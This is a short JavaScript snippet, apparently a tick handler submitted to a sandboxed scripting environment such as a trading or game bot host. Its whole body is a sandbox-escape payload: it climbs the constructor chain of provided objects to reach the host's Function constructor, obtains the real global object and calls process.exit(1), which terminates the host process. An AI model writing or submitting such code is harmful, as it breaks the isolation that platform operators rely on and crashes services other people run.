// Looks for a function of another realm in what the script is given.
function onTick() {
  const make = log.constructor?.constructor ?? buy.constructor
  return make('return this')().process.exit(1)
}
